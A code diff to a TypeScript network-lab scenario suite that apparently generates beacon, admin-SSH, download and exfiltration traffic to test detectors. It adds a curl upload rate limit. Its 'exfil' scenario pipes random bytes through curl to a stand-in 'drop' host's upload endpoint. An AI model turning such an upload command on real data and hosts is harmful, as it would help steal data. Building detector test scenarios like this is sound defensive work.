@@ -42,6 +42,14 @@ const host = (name: string) => OFFICE_HOSTS.find((h) => h.name === name)!;
 const curl = (files: LabFiles, url: string, ...extra: string[]) => ['curl', '-sS', '--max-time', '60', '--cacert', files.caCert, '-o', '/dev/null', ...extra, url];
 const between = (ctx: ScenarioContext, min: number, max: number) => min + (max - min) * ctx.random();
 
+/**
+ * The office's uplink for bulk transfers (curl --limit-rate, bytes/s). At veth speed (~60 MB/s of
+ * 64 KiB segments) the live meter fell behind and the kernel dropped a third of the capture
+ * (15,495 of 47,236 packets), losing the exfil upload; tc netem would be the place to shape the
+ * link, but kernels without sch_netem (this machine's) have none.
+ */
+const UPLINK_RATE = '20M';
+
 /** Beacon: sessions of the implant, the mean gap and its jitter (± share, uniform). */
 export const BEACON = { sessions: 13, gapMs: 11_000, jitter: 0.2 };
 /** Exfiltration: bytes uploaded, above the detector's 200 MiB. */
@@ -75,7 +83,7 @@ const SCENARIOS: Scenario[] = [
       });
       const admin = ctx.on('ws1', ['ssh', '-i', ctx.files.sshKey, '-o', 'BatchMode=yes', '-o', 'StrictHostKeyChecking=no', '-o', 'UserKnownHostsFile=/dev/null',
         `root@${FILE_SERVER.ip}`, 'uname -a; uptime; df -h /; ls -la /etc | head -50; sleep 5'], 60_000);
-      const download = ctx.on('ws3', curl(ctx.files, `https://${INTERNET.mirror.name}/bytes/${100 * 1024 * 1024}`), 120_000);
+      const download = ctx.on('ws3', curl(ctx.files, `https://${INTERNET.mirror.name}/bytes/${100 * 1024 * 1024}`, '--limit-rate', UPLINK_RATE), 120_000);
       await Promise.all([...browse, admin, download]);
     },
   },
@@ -133,7 +141,7 @@ const SCENARIOS: Scenario[] = [
     name: 'exfil',
     expected: { detector: 'exfil', sourceHost: 'ws2', source: host('ws2').ip, destination: INTERNET.drop.ip },
     async play(ctx) {
-      await ctx.on('ws2', ['sh', '-c', `head -c ${EXFIL_BYTES} /dev/urandom | ${curl(ctx.files, `https://${INTERNET.drop.name}/upload`, '-T', '-').join(' ')}`], 240_000);
+      await ctx.on('ws2', ['sh', '-c', `head -c ${EXFIL_BYTES} /dev/urandom | ${curl(ctx.files, `https://${INTERNET.drop.name}/upload`, '-T', '-', '--limit-rate', UPLINK_RATE).join(' ')}`], 240_000);
     },
   },
 ];
